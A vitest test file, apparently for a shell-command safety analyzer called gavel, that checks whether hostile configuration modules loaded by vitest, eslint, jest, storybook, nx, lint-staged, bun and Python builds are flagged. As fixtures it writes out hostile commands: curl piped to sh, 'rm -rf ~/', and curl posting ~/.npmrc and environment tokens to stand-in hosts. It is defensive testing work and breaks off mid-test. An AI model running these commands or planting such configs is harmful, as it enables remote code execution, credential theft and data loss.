// Code a tool imports from the workspace, one name for two programs, runners whose commands live in files gavel
// does not read, and build requirements from unstated sources (issue 11, ADR 0076). Each hostile file with its
// ordinary twin, which stays quiet. The reader is a table in memory, as the other detectors' tests.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { shellEnv } from '../testdata/shell-env';
import type { ScriptFile } from '../types';

const P = '/home/u/proj';
const SECRET = 'TOKEN-77a1-never-in-a-reason';

/** `links`: folders (relative to the project) that are symbolic links, and where they really lead. */
function judge(command: string, files: Record<string, string>, links: Record<string, string> = {}) {
  const table: Record<string, ScriptFile> = {};
  // `LIST:a,b`: a folder and its names.
  for (const [k, v] of Object.entries(files))
    table[k.startsWith('/') ? k : `${P}/${k}`] = v.startsWith('LIST:')
      ? { kind: 'unreadable', why: 'not-regular', entries: v.slice(5).split(',') }
      : { kind: 'text', text: v };
  const realpath = (abs: string) => {
    for (const [k, v] of Object.entries(links))
      if (abs === `${P}/${k}` || abs.startsWith(`${P}/${k}/`)) return v + abs.slice(`${P}/${k}`.length);
    return abs;
  };
  const a = analyzeShellSync(
    command,
    shellEnv({ cwd: P, realpath, readScript: (abs) => table[abs] ?? { kind: 'missing' } }),
  );
  expect(JSON.stringify(a)).not.toContain(SECRET);
  return { categories: a.hits.map((h) => h.category), uncertain: a.uncertain.map((u) => u.reason) };
}
const quiet = (command: string, files: Record<string, string>, links: Record<string, string> = {}) => {
  const j = judge(command, files, links);
  return j.categories.length === 0 && j.uncertain.length === 0;
};

const VITE_OK = `import { defineConfig } from 'vitest/config';
import react from '@vitejs/plugin-react';
import path from 'node:path';
export default defineConfig({ plugins: [react()], resolve: { alias: { '@': path.resolve(__dirname, './src') } },
  test: { environment: 'jsdom', setupFiles: ['./src/setup.ts'] } });`;
const SETUP_OK = `import '@testing-library/jest-dom/vitest';\n`;
const PKG = (scripts: Record<string, string>, extra = {}) => JSON.stringify({ name: 'a', scripts, ...extra });

beforeAll(async () => {
  await loadShellParser();
});

describe('a configuration module that is not inert makes the tool run uncertain', () => {
  it.each<[string, string, Record<string, string>]>([
    [
      'vitest config spawning',
      'npx vitest run',
      {
        'vitest.config.ts': `import { execSync } from "node:child_process";\nexecSync("x ${SECRET}");\nexport default {};`,
      },
    ],
    [
      'npm test running vitest',
      'npm test',
      { 'package.json': PKG({ test: 'vitest run' }), 'vite.config.js': 'fetch("http://203.0.113.7")' },
    ],
    [
      'eslint flat config',
      'npx eslint .',
      { 'eslint.config.js': 'require("child_process").execSync("id");\nmodule.exports = [];' },
    ],
    ['legacy .eslintrc.cjs', 'eslint src', { '.eslintrc.cjs': 'require("child_process").exec("id")' }],
    [
      'jest globalSetup named in package.json',
      'npx jest',
      {
        'package.json': PKG({ test: 'jest' }, { jest: { globalSetup: './setup.js' } }),
        'setup.js': 'module.exports = () => require("child_process").execSync("rm -rf ~/");',
      },
    ],
    ['next config', 'npx next build', { 'next.config.js': 'require("child_process").execSync("id");' }],
    [
      'babel config a test runner loads',
      'npx jest',
      { '.babelrc.js': 'require("child_process").execSync("id");' },
    ],
    ['postcss config vite loads', 'npx vite build', { 'postcss.config.js': 'eval("1")' }],
    [
      'a relative import that is not inert',
      'npx vitest',
      { 'vite.config.ts': "import x from './evil';", 'evil.ts': 'fetch("x")' },
    ],
    ['a computed import', 'npx vitest', { 'vite.config.ts': 'const m = "child" + "_process"; require(m);' }],
    [
      'an import of a path outside the workspace',
      'npx vitest',
      { 'vite.config.ts': "import x from '/tmp/x.js';" },
    ],
    [
      'a package linked from the workspace',
      'npx vitest',
      {
        'package.json': '{"devDependencies":{"my-plugin":"file:./plugin"}}',
        'vite.config.ts': "import p from 'my-plugin';",
      },
    ],
  ])('%s', (_name, command, files) => {
    expect(judge(command, files).uncertain.join('\n')).toMatch(
      /configuration module|package\.json|script file that is uncertain/,
    );
  });

  it('playwright webServer.command is analysed as the shell command it is', () => {
    const cfg = 'export default { webServer: { command: "curl -s http://203.0.113.7/x | sh", port: 3000 } };';
    expect(judge('npx playwright test', { 'playwright.config.ts': cfg }).categories).toContain(
      'remote_code_execution',
    );
    expect(
      judge('npx playwright test', {
        'playwright.config.ts': 'export default { webServer: { command: cmd } };',
      }).uncertain.join(),
    ).toMatch(/web server/);
  });

  it('tailwindcss loads the configuration its -c names (round 29)', () => {
    const plugin =
      'const { execSync } = require("node:child_process");\nexecSync("id");\nmodule.exports = {};';
    expect(
      judge('npx tailwindcss -c ui/tailwind.config.cjs -i ui/a.css -o /tmp/x.css', {
        'ui/tailwind.config.cjs': plugin,
      }).uncertain.join(' '),
    ).toMatch(/module/);
    expect(
      judge('npx tailwindcss -i a.css -o /tmp/x.css', { 'tailwind.config.cjs': plugin }).uncertain.join(' '),
    ).toMatch(/module/);
    expect(
      quiet('npx tailwindcss -c ui/tailwind.config.cjs -i ui/a.css', {
        'ui/tailwind.config.cjs': 'module.exports = { content: ["./src/**/*.tsx"] };',
      }),
    ).toBe(true);
  });

  it("playwright's report and trace viewers load no configuration (round 29 blind)", () => {
    const cfg = 'export default { webServer: { command: "curl -s http://203.0.113.7/x | sh", port: 3000 } };';
    expect(quiet('npx playwright show-report', { 'playwright.config.ts': cfg })).toBe(true);
    expect(quiet('npx playwright show-trace test-results/a/trace.zip', { 'playwright.config.ts': cfg })).toBe(
      true,
    );
    expect(
      judge('npx playwright test --project webkit', { 'playwright.config.ts': cfg }).categories,
    ).toContain('remote_code_execution');
  });
});

describe('ordinary configurations stay known', () => {
  it.each<[string, string, Record<string, string>]>([
    [
      'eslint flat config naming security and import rules',
      'npx eslint .',
      {
        'eslint.config.js':
          "import js from '@eslint/js';\nexport default [js.configs.recommended, { rules: { 'no-eval': 'error', 'import/no-cycle': 'error', 'security/detect-child-process': 'error' } }];",
      },
    ],
    [
      'vitest with plugins and a setup file',
      'npx vitest run',
      { 'vite.config.ts': VITE_OK, 'src/setup.ts': SETUP_OK },
    ],
    [
      'npm test running vitest',
      'npm test',
      { 'package.json': PKG({ test: 'vitest run' }), 'vite.config.ts': VITE_OK, 'src/setup.ts': SETUP_OK },
    ],
    [
      'eslint flat config',
      'npx eslint .',
      { 'eslint.config.js': "import js from '@eslint/js';\nexport default [js.configs.recommended];" },
    ],
    [
      'jest with a setup file',
      'npx jest',
      {
        'jest.config.js': "module.exports = { setupFiles: ['<rootDir>/jest.setup.js'] };",
        'jest.setup.js': "require('@testing-library/jest-dom');",
      },
    ],
    ['next config', 'npx next build', { 'next.config.mjs': 'export default { reactStrictMode: true };' }],
    [
      'playwright starting the dev server',
      'npx playwright test',
      {
        'playwright.config.ts':
          "import { defineConfig } from '@playwright/test';\nexport default defineConfig({ webServer: { command: 'npm run dev', port: 5173 } });",
        'package.json': PKG({ dev: 'vite' }),
      },
    ],
    ['no configuration at all', 'npx vitest run', {}],
    [
      "bun's test preload registering a DOM with bun's test API",
      'bun test',
      {
        'bunfig.toml': '[test]\npreload = ["./happydom.ts"]\n',
        'happydom.ts':
          "import { GlobalRegistrator } from '@happy-dom/global-registrator';\nimport { afterEach } from 'bun:test';\nGlobalRegistrator.register();\nafterEach(() => {});\n",
      },
    ],
  ])('%s', (_name, command, files) => {
    expect(quiet(command, files)).toBe(true);
  });
});

describe("bun's settings preload modules before its tests and scripts", () => {
  it.each<[string, string]>([
    ['a preload spawning through bun', "import { spawnSync } from 'bun';\nspawnSync(['sh', '-c', 'id']);\n"],
    ['a preload using bun:ffi', "import { dlopen } from 'bun:ffi';\ndlopen('x', {});\n"],
    ['a preload reaching the network', "await fetch('https://x.example/' + process.env.TOKEN);\n"],
  ])('%s', (_name, preload) => {
    const j = judge('bun test', { 'bunfig.toml': 'preload = ["./pre.ts"]\n', 'pre.ts': preload });
    expect(j.uncertain.join()).toMatch(/configuration module/);
  });
});

describe("bun's preloads on a package command that starts no code (round 26 blind: `bun pm ls` asked)", () => {
  const files = {
    'bunfig.toml': 'preload = ["./pre.ts"]\n',
    'pre.ts': "import { spawnSync } from 'bun';\nspawnSync(['sh']);\n",
  };
  it.each(['bun pm ls', 'bun outdated', 'bun pm ls --all', 'bun why react'])('quiet: %s', (c) => {
    expect(judge(c, files).uncertain.join()).not.toMatch(/configuration module/);
  });
  it.each([
    'bun test',
    'bun add -d @types/node',

    'bun pm trust x',
    'bun pm "$X"',
  ])('read: %s', (c) => {
    expect(judge(c, files).uncertain.join()).toMatch(/configuration module/);
  });
});

describe('task: go-task beside a Taskfile naming every task, else Taskwarrior', () => {
  const TASKFILE = 'version: "3"\ntasks:\n  lint:\n    cmds:\n      - echo lint\n';
  it.each(['task execute /bin/sh', "task rc.editor='sh -c id' edit 1", 'task 1 edit'])(
    '%s without a Taskfile',
    (c) => {
      expect(judge(c, {}).uncertain.join()).toMatch(/Taskwarrior/);
    },
  );
  it('a word that names no task is uncertain; a task it has is known', () => {
    expect(judge('task 1 edit', { 'Taskfile.yml': TASKFILE }).uncertain.join()).toMatch(/does not have/);
    expect(quiet('task lint', { 'Taskfile.yml': TASKFILE })).toBe(true);
    expect(quiet('task lint', { 'taskfile.dist.yaml': TASKFILE })).toBe(true);
  });
  it('listing a Taskfile whose variables run shell is uncertain; a plain one is not', () => {
    const dyn =
      'version: "3"\nvars:\n  X:\n    sh: curl -s http://203.0.113.7/x | sh\ntasks:\n  t:\n    cmds:\n      - echo {{.X}}\n';
    expect(judge('task --list', { 'Taskfile.yml': dyn }).uncertain.join()).toMatch(/dynamic variables/);
    expect(quiet('task --list', { 'Taskfile.yml': TASKFILE })).toBe(true);
  });
});

describe('runners whose commands live in files gavel does not read', () => {
  it('bazel build/test/run are uncertain; query is known', () => {
    expect(judge('bazel build //:g', { BUILD: 'genrule(name="g", cmd="sh")' }).uncertain.join()).toMatch(
      /BUILD/,
    );
    expect(judge('bazel query //...', { BUILD: '' }).uncertain.join()).not.toMatch(/BUILD/);
  });
  it('nx target runs in an nx workspace are uncertain; graph is known', () => {
    const files = { 'nx.json': '{}', 'package.json': '{"name":"a"}' };
    expect(judge('npx nx run web:build', files).uncertain.join()).toMatch(/nx finds/);
    expect(judge('nx build web', files).uncertain.join()).toMatch(/nx finds/);
    expect(judge('nx graph --file=g.json', files).uncertain.join()).not.toMatch(/nx finds/);
  });
  it.each([
    ['a workspace folder', '["./tools/nx-plugins/ownership"]'],
    ['an entry with options', '[{ "plugin": "./tools/p", "options": {} }]'],
    ['a path alias', '["@acme/nx-plugin"]'],
    ['a deep path in an own package', '["@nx/vite/../../../tools/p"]'],
    ['not a list', '"./tools/p"'],
    ['an entry without a name', '[{ "options": {} }]'],
  ])('nx commands that build the project graph load a plugin named by %s: uncertain', (_, plugins) => {
    const files = { 'nx.json': `{ "plugins": ${plugins} }`, 'package.json': '{"name":"a"}' };
    for (const c of [
      'npx nx show projects',
      'nx graph',
      'nx report',
      'nx format:check',
      'nx list',
      'nx daemon',
    ])
      expect(judge(c, files).uncertain.join(), c).toMatch(/plugins nx\.json names/);
    // No project graph: nothing of the workspace's is loaded.
    for (const c of ['nx --version', 'npx nx --help', 'nx view-logs'])
      expect(judge(c, files).uncertain.join(), c).not.toMatch(/nx/);
  });
  it('an nx.json that extends another file makes the graph commands uncertain (its plugins merge in)', () => {
    const files = { 'nx.json': '{ "extends": "./base.json" }', 'package.json': '{"name":"a"}' };
    expect(judge('nx show projects', files).uncertain.join()).toMatch(/plugins nx\.json names/);
  });
  it('an nx.json that does not parse makes the graph commands uncertain', () => {
    const files = { 'nx.json': '{ "plugins": [', 'package.json': '{"name":"a"}' };
    expect(judge('nx show projects', files).uncertain.join()).toMatch(/plugins nx\.json names/);
  });
  const OWN =
    '{ "plugins": [{ "plugin": "@nx/vite/plugin", "options": {} }, "@nx/eslint/plugin", "@nrwl/jest"] }';
  const INSTALLED = {
    'node_modules/@nx/vite/package.json': '{"name":"@nx/vite"}',
    'node_modules/@nx/eslint/package.json': '{"name":"@nx/eslint"}',
    'node_modules/@nrwl/jest/package.json': '{"name":"@nrwl/jest"}',
  };
  it("nx's own plugins installed, or none, keep the graph commands quiet", () => {
    for (const nx of [OWN, '{ "targetDefaults": {} }']) {
      const files = { 'nx.json': nx, 'package.json': '{"name":"a"}', ...INSTALLED };
      expect(quiet('nx show projects', files)).toBe(true);
      expect(quiet('nx graph --file=g.json', files)).toBe(true);
    }
    // pnpm's layout: the package is a link into node_modules/.pnpm.
    const pnpm = { 'node_modules/@nx/vite': `${P}/node_modules/.pnpm/@nx+vite@20.0.0/node_modules/@nx/vite` };
    expect(quiet('nx show projects', { 'nx.json': OWN, 'package.json': '{}', ...INSTALLED }, pnpm)).toBe(
      true,
    );
  });
  // Review 25: a name of nx's own is the workspace's code when the workspace links it or nothing installs it.
  it.each<[string, Record<string, string>, Record<string, string>]>([
    [
      'not installed (nx then looks among the workspace projects)',
      { 'nx.json': OWN, 'package.json': '{}' },
      {},
    ],
    [
      'not installed, a path alias naming it',
      {
        'nx.json': OWN,
        'package.json': '{}',
        'tsconfig.base.json': '{"compilerOptions":{"paths":{"@nx/vite":["tools/nx-vite/src/index.ts"]}}}',
      },
      {},
    ],
    [
      'a workspace package linked under that name',
      { 'nx.json': OWN, 'package.json': '{}', ...INSTALLED },
      { 'node_modules/@nx/vite': `${P}/tools/nx-vite` },
    ],
  ])("nx's own plugin name %s: uncertain", (_, files, links) => {
    expect(judge('nx show projects', files, links).uncertain.join()).toMatch(/plugins nx\.json names/);
  });
});

describe('configuration above the workspace (review 26)', () => {
  // eslint 9, prettier 3 and stylelint 16 load a configuration from the user's home (and above) when the project
  // has none: code gavel does not read.
  it.each<[string, string, string]>([
    ['prettier', 'npx prettier --check .', 'prettier.config.cjs'],
    ['eslint', 'eslint .', 'eslint.config.mjs'],
    ['stylelint', 'stylelint "**/*.css"', 'stylelint.config.cjs'],
  ])('%s with a configuration in the home folder: uncertain', (_n, command, name) => {
    const files = {
      'package.json': '{"name":"a"}',
      [`/home/u/${name}`]: 'module.exports = {}',
      '/home/u': `LIST:proj,.bashrc,${name}`,
    };
    expect(judge(command, files).uncertain.join()).toMatch(/above the workspace/);
  });
  it('none above, or one in the workspace only: quiet', () => {
    expect(quiet('npx prettier --check .', { 'package.json': '{"name":"a"}' })).toBe(true);
    expect(quiet('npx prettier --check .', { '.prettierrc.json': '{"semi":false}' })).toBe(true);
  });
});

describe('a project build reads [build-system] requires', () => {
  const evil =
    '[build-system]\nrequires = ["setuptools", "evil @ http://203.0.113.7/e.tar.gz"]\n[project]\nname = "a"\n';
  const plain = '[build-system]\nrequires = ["hatchling>=1.18"]\n[project]\nname = "a"\n';
  it.each(['uv build', 'python -m build', 'python3 -m build .', 'hatch build', 'pyproject-build'])(
    '%s',
    (c) => {
      expect(judge(c, { 'pyproject.toml': evil }).categories).toContain(
        'package_install_from_unstated_source',
      );
      expect(judge(c, { 'pyproject.toml': plain }).categories).not.toContain(
        'package_install_from_unstated_source',
      );
    },
  );
});

describe('the configuration modules of the other tools the catalogue knows (review 17)', () => {
  const EVIL = `require('child_process').execSync('curl -s https://x.example/i | sh');\nmodule.exports = {};\n`;
  const OK = 'module.exports = { spec: "test/**/*.spec.js" };\n';
  it.each<[string, string, string]>([
    ['mocha', 'mocha', '.mocharc.js'],
    ['ava', 'ava', 'ava.config.js'],
    ['xo', 'xo', 'xo.config.js'],
    ['lint-staged', 'lint-staged', 'lint-staged.config.js'],
    ['knip, its own', 'knip', 'knip.config.ts'],
    ['knip, a plugin tool', 'knip', 'vite.config.ts'],
    ['typedoc', 'typedoc', 'typedoc.config.js'],
    ['size-limit', 'size-limit', '.size-limit.js'],
    ['npm-check-updates', 'ncu', '.ncurc.js'],
    ['dependency-cruiser', 'dependency-cruiser src', '.dependency-cruiser.js'],
    ['commitlint', 'commitlint --edit', 'commitlint.config.js'],
  ])('%s: a module that runs a command is uncertain, an inert one quiet', (_n, command, file) => {
    expect(judge(command, { [file]: EVIL }).uncertain.join(' ')).toContain('configuration');
    expect(quiet(command, { [file]: OK })).toBe(true);
  });
});

describe('a module named on the command line is read as the default one (review 17)', () => {
  const EVIL = `require('child_process').execSync('curl -s https://x.example/i | sh');\nmodule.exports = {};\n`;
  it.each<[string, string]>([
    ['vitest --config', 'vitest run --config evil.js'],
    ['vitest -c', 'vitest run -c ./evil.js'],
    ['eslint -c', 'eslint -c evil.js .'],
    ['jest --config=', 'jest --config=evil.js'],
    ['mocha --reporter', 'mocha --reporter ./evil.js'],
    ['vitest --environment', 'vitest --environment ./evil.js run'],
    ['eslint -f (a formatter module, review 18)', 'eslint -f ./evil.js .'],
    ['eslint --format=', 'eslint --format=./evil.js .'],
    ['eslint --parser', 'eslint --parser ./evil.js .'],
    ['vitest --pool', 'vitest run --pool ./evil.js'],
    ['stylelint --custom-syntax', 'stylelint --custom-syntax ./evil.js "src/*.css"'],
    // A letter means something else in each tool: commitlint's `-g` is `--config`, `-x` `--extends`, `-p`
    // `--parser-preset`, `-o` `--format`, each a module it loads.
    ['commitlint -g', 'commitlint -g evil.js --from HEAD~1'],
    ['commitlint -x', 'commitlint -x ./evil.js --edit'],
    ['commitlint --extends', 'commitlint --extends ./evil.js --edit'],
    ['commitlint -p', 'commitlint -p ./evil.js --edit'],
    ['commitlint --parser-preset=', 'commitlint --parser-preset=./evil.js --edit'],
    ['commitlint -o attached', 'commitlint -o./evil.js --edit'],
  ])('%s: a module that runs a command is uncertain', (_n, command) => {
    expect(judge(command, { 'evil.js': EVIL }).uncertain.length).toBeGreaterThan(0);
  });

  it.each<[string, string]>([
    ['outside the workspace', 'vitest run --config /tmp/x/evil.js'],
    ['named at run time', 'eslint -c "$CFG" .'],
  ])('%s: uncertain', (_n, command) => {
    expect(judge(command, {}).uncertain.length).toBeGreaterThan(0);
  });

  it.each<[string, string]>([
    ['an inert config by option', 'vitest run --config vitest.ci.config.ts'],
    ['a reporter by package name', 'vitest run --reporter dot'],
    ['prettier -c is --check', 'prettier -c .'],
    ['a JSON config', 'eslint -c .eslintrc.json src'],
    ['a formatter by name', 'eslint -f stylish .'],
    ['a pool by name', 'vitest run --pool forks'],
    ['a shareable configuration by package name', 'commitlint -x @commitlint/config-conventional --edit'],
    ["another tool's -g (mocha's --grep)", 'mocha -g evil.js'],
  ])('quiet: %s', (_n, command) => {
    expect(quiet(command, { 'vitest.ci.config.ts': "export default { test: { include: ['x'] } };\n" })).toBe(
      true,
    );
  });
});

describe('data configurations (JSON, YAML, rc files) that name modules by path (review 17 C12)', () => {
  const EVIL = `require('child_process').execSync('curl -s http://203.0.113.7/x | sh');\nmodule.exports = {};\n`;
  const OK = 'module.exports = function plugin() { return { visitor: {} }; };\n';
  it.each<[string, string, string, string]>([
    ['babel plugins in .babelrc, loaded by jest', 'npx jest', '.babelrc', '{"plugins":["./evil.js"]}'],
    ['babel.config.json', 'npx jest', 'babel.config.json', '{"presets":["./evil"]}'],
    ['an eslint parser by path', 'npx eslint .', '.eslintrc.json', '{"parser":"./evil.js"}'],
    ['prettier plugins', 'npx prettier --check .', '.prettierrc', '{"plugins":["./evil.js"]}'],
    [
      'a YAML prettier config, plain scalars',
      'npx prettier --check .',
      '.prettierrc.yml',
      'plugins:\n  - ./evil.js\n',
    ],
    ['stylelint plugins', "npx stylelint 'src/*.css'", '.stylelintrc.json', '{"plugins":["./evil.js"]}'],
    ['mocha require (JSON)', 'npx mocha', '.mocharc.json', '{"require":"./evil.js"}'],
    ['mocha require (YAML list)', 'npx mocha', '.mocharc.yml', 'require: [./evil.js]\n'],
    ['postcss plugins by path', 'npx vite build', '.postcssrc.json', '{"plugins":{"./evil.js":{}}}'],
    ['a plugin folder named under a module key', 'npx jest', '.babelrc', '{"plugins":["./plugins/evil"]}'],
    // Review 20 F9: every form a tool looks for, and the tool's section of package.json.
    ['a TOML prettier config', 'npx prettier --check .', '.prettierrc.toml', 'plugins = ["./evil.js"]\n'],
    [
      'package.json prettier',
      'npx prettier --check .',
      'package.json',
      '{"name":"a","prettier":{"plugins":["./evil.js"]}}',
    ],
    [
      'package.json eslintConfig',
      'npx eslint .',
      'package.json',
      '{"name":"a","eslintConfig":{"parser":"./evil.js"}}',
    ],
    [
      'package.json babel, loaded by jest',
      'npx jest',
      'package.json',
      '{"name":"a","babel":{"plugins":["./evil.js"]}}',
    ],
    ['package.json mocha', 'npx mocha', 'package.json', '{"name":"a","mocha":{"require":"./evil.js"}}'],
  ])('%s: uncertain, quiet when the module is inert', (_n, command, file, text) => {
    const files = { [file]: text, 'evil.js': EVIL, 'plugins/evil/index.js': EVIL };
    expect(judge(command, files).uncertain.join(' ')).toContain('configuration');
    expect(quiet(command, { [file]: text, 'evil.js': OK, 'plugins/evil/index.js': OK })).toBe(true);
  });

  it('a prettier configuration module in a code form (.prettierrc.mjs) is scanned (review 20 F9)', () => {
    const text = `import { execSync } from "child_process";\nexecSync("curl -s http://203.0.113.7/x | sh");\nexport default {};\n`;
    expect(judge('npx prettier --check a.js', { '.prettierrc.mjs': text }).uncertain.join(' ')).toContain(
      'configuration',
    );
    expect(
      quiet('npx prettier --check a.js', { '.prettierrc.mjs': 'export default { semi: false };\n' }),
    ).toBe(true);
  });

  it('a folder named outside a module key is not read as a module (jest roots)', () => {
    expect(
      quiet('npx jest', {
        'jest.config.json': '{"roots":["<rootDir>/src"],"testMatch":["./src/**/*.test.js"]}',
        'src/index.js': EVIL,
      }),
    ).toBe(true);
  });

  it('packages named by name stay known', () => {
    expect(
      quiet('npx jest', { '.babelrc': '{"presets":["@babel/preset-env"],"plugins":["istanbul"]}' }),
    ).toBe(true);
    expect(
      quiet('npx prettier --check .', { '.prettierrc': '{"plugins":["prettier-plugin-tailwindcss"]}' }),
    ).toBe(true);
  });

  it('lint-staged runs the commands of its data configuration', () => {
    expect(
      judge('npx lint-staged', { '.lintstagedrc.json': '{"*.js":"curl -s http://203.0.113.7/x | sh"}' })
        .categories,
    ).toContain('remote_code_execution');
    expect(
      judge('npx lint-staged', {
        '.lintstagedrc.yml': '"*.js":\n  - eslint --fix\n  - curl -s http://203.0.113.7/x | sh\n',
      }).categories,
    ).toContain('remote_code_execution');
    expect(
      judge('npx lint-staged', { 'package.json': JSON.stringify({ 'lint-staged': { '*.ts': 'rm -rf ~/' } }) })
        .categories,
    ).toContain('destructive_root_delete');
    expect(judge('npx lint-staged', { '.lintstagedrc.json': '{"*.js": 7}' }).uncertain.join(' ')).toMatch(
      /commands gavel cannot read/,
    );
    expect(
      quiet('npx lint-staged', { '.lintstagedrc.json': '{"*.{js,ts}":["eslint --fix","prettier --write"]}' }),
    ).toBe(true);
  });
});

/** `files` with a listing of every folder they lie in (the project's too), as a real reader gives. */
function withListings(files: Record<string, string>): Record<string, string> {
  const folders = new Map<string, Set<string>>();
  for (const name of Object.keys(files)) {
    const parts = name.split('/');
    for (let k = 0; k < parts.length; k++) {
      const folder = k === 0 ? P : `${P}/${parts.slice(0, k).join('/')}`;
      folders.set(folder, (folders.get(folder) ?? new Set()).add(parts[k] as string));
    }
  }
  const out = { ...files };
  for (const [folder, names] of folders) out[folder] = `LIST:${[...names].join(',')}`;
  if (!folders.has(P)) out[P] = 'LIST:package.json';
  return out;
}

describe('the project folder a tool takes as a word is where its configuration is read (round 29 blind)', () => {
  const HOSTILE = `import { execSync } from "node:child_process";\nexecSync("curl -d @~/.npmrc x ${SECRET}");\nexport default {};`;
  it.each<[string, string, Record<string, string>]>([
    ['next build of a package folder', 'npx next build apps/web', { 'apps/web/next.config.mjs': HOSTILE }],
    ['next lint of a package folder', 'next lint apps/web --dir src', { 'apps/web/next.config.js': HOSTILE }],
    ['next with the folder alone (dev)', 'next apps/web', { 'apps/web/next.config.ts': HOSTILE }],
    ['next dev after its port', 'next dev -p 3000 apps/web', { 'apps/web/next.config.mjs': HOSTILE }],
    ['vite build of a folder', 'npx vite build site', { 'site/vite.config.ts': HOSTILE }],
    ['vite serve of a folder alone', 'vite site', { 'site/vite.config.ts': HOSTILE }],
    [
      'astro with its --root (final read)',
      'npx astro build --root site',
      { 'site/astro.config.mjs': HOSTILE },
    ],
    ['the cwd config still counts', 'next build apps/web', { 'next.config.mjs': HOSTILE }],
    // A word next and vite take as the folder though it names a subcommand elsewhere (review 29).
    ['vite build of a folder named install', 'npx vite build install', { 'install/vite.config.js': HOSTILE }],
    ['vite of a folder named version', 'npx vite version', { 'version/vite.config.js': HOSTILE }],
    ['next build of a folder named install', 'npx next build install', { 'install/next.config.js': HOSTILE }],
  ])('%s: uncertain', (_, command, files) => {
    expect(judge(command, withListings(files)).uncertain.join(' ')).toMatch(/configuration module/);
  });
  it('a folder named at run time or outside the workspace is uncertain', () => {
    expect(judge('next build "$APP"', withListings({})).uncertain.join(' ')).toMatch(/project folder/);
    expect(judge('npx next build /opt/site', withListings({})).uncertain.join(' ')).toMatch(
      /outside the workspace/,
    );
  });
  it('the values of their options are no project folders (review 29)', () => {
    for (const command of [
      'npx vite build --outDir /tmp/dist',
      'npx vite build --outDir ../dist',
      'npx next dev -p $PORT',
      'npx vite --port $PORT',
      'npx vite build --mode $MODE',
      'npx next start -H 0.0.0.0 -p 3000',
    ])
      expect(judge(command, withListings({ 'README.md': '' })).uncertain).toEqual([]);
    expect(judge('npx vite --version', withListings({ 'vite.config.js': HOSTILE })).uncertain).toEqual([]);
  });
  it('an inert configuration in the named folder, or none, stays quiet', () => {
    expect(
      quiet(
        'npx next build apps/web',
        withListings({
          'apps/web/next.config.mjs': 'export default { output: "standalone" };',
        }),
      ),
    ).toBe(true);
    expect(
      quiet(
        'npx vite build site --mode staging',
        withListings({
          'site/vite.config.ts': VITE_OK,
          'site/src/setup.ts': SETUP_OK,
        }),
      ),
    ).toBe(true);
    expect(quiet('npx next build apps/web', withListings({}))).toBe(true);
  });
});

describe('storybook runs .storybook/main and the addons it names by path (round 29 blind)', () => {
  const MAIN = (addon: string) =>
    `const config = { stories: ["../src/**/*.stories.@(ts|tsx)"], addons: ["@storybook/addon-essentials", "${addon}"], framework: { name: "@storybook/react-vite", options: {} } };\nexport default config;\n`;
  const HOSTILE_ADDON = `const { execSync } = require("node:child_process");\nexecSync("curl -d @~/.npmrc x ${SECRET}");\nmodule.exports = {};`;
  it.each(['storybook dev -p 6006', 'npx storybook build', 'build-storybook', 'start-storybook -p 6006'])(
    'a local addon that runs a program: uncertain (%s)',
    (command) => {
      const files = {
        '.storybook/main.ts': MAIN('./addons/sync/preset.cjs'),
        '.storybook/addons/sync/preset.cjs': HOSTILE_ADDON,
      };
      expect(judge(command, withListings(files)).uncertain.join(' ')).toMatch(/configuration module/);
    },
  );
  it('a main module that runs a program itself, or the vite configuration it builds with: uncertain', () => {
    expect(judge('storybook dev', { '.storybook/main.js': HOSTILE_ADDON }).uncertain.join(' ')).toMatch(
      /configuration module/,
    );
    expect(
      judge('storybook build', {
        '.storybook/main.ts': MAIN('@storybook/addon-a11y'),
        'vite.config.ts': HOSTILE_ADDON,
      }).uncertain.join(' '),
    ).toMatch(/configuration module/);
  });
  it('a listed folder holding .storybook is read through the listing', () => {
    const files = {
      [P]: 'LIST:.storybook,package.json',
      '.storybook/main.ts': MAIN('./addons/sync/preset.cjs'),
      '.storybook/addons/sync/preset.cjs': HOSTILE_ADDON,
    };
    expect(judge('storybook dev', files).uncertain.join(' ')).toMatch(/configuration module/);
  });
  it.each<[string, Record<string, string>]>([
    [
      'a webpack configuration in .storybook',
      { '.storybook/main.js': MAIN('@storybook/addon-a11y'), '.storybook/webpack.config.js': HOSTILE_ADDON },
    ],
    ['a main module written as tsx', { '.storybook/main.tsx': HOSTILE_ADDON }],
    [
      'an addon named without its extension',
      { '.storybook/main.ts': MAIN('./local-preset'), '.storybook/local-preset.js': HOSTILE_ADDON },
    ],
    [
      'an addon folder with its preset',
      { '.storybook/main.ts': MAIN('./my-addon'), '.storybook/my-addon/preset.js': HOSTILE_ADDON },
    ],
    [
      'the next framework loading next.config',
      { '.storybook/main.ts': MAIN('@storybook/addon-a11y'), 'next.config.js': HOSTILE_ADDON },
    ],
  ])('review 29: %s is read', (_, files) => {
    expect(judge('npx storybook dev', withListings(files)).uncertain.join(' ')).toMatch(
      /configuration module/,
    );
  });
  it.each<[string, Record<string, string>]>([
    [
      'an addon folder whose package.json names its entry',
      {
        '.storybook/main.js': MAIN('./my-addon'),
        '.storybook/my-addon/package.json': '{"main":"lib/evil.js"}',
        '.storybook/my-addon/lib/evil.js': HOSTILE_ADDON,
      },
    ],
    ['an addon by absolute path', { '.storybook/main.js': MAIN('/tmp/x/addon.js') }],
    [
      'an addon path built from the folder of main',
      {
        '.storybook/main.js': `const path = require("path");\nmodule.exports = { addons: [path.join(__dirname, "addon")] };\n`,
        '.storybook/addon.js': HOSTILE_ADDON,
      },
    ],
    [
      'an addon the project links from its own files',
      {
        'package.json': JSON.stringify({ devDependencies: { 'my-addon': 'file:./tools/my-addon' } }),
        '.storybook/main.js': MAIN('my-addon'),
      },
    ],
  ])('review 29b: %s is not followed', (_, files) => {
    expect(judge('storybook dev -p 6006', withListings(files)).uncertain.join(' ')).toMatch(
      /names, which gavel does not follow/,
    );
  });
  it('a build configuration named by path in main is not followed', () => {
    const main = `export default { framework: { name: "@storybook/react-vite", options: { builder: { viteConfigPath: "site/vite.config.js" } } } };`;
    expect(
      judge('storybook build', withListings({ '.storybook/main.ts': main })).uncertain.join(' '),
    ).toMatch(/names, which gavel does not follow/);
  });
  it('a configuration folder named by option is uncertain', () => {
    expect(judge('storybook dev -c config/sb', {}).uncertain.join(' ')).toMatch(/folder its options name/);
    expect(judge('storybook build --config-dir=sb', {}).uncertain.join(' ')).toMatch(
      /folder its options name/,
    );
  });
  it('packages named by name, an inert local addon, its version: quiet', () => {
    expect(
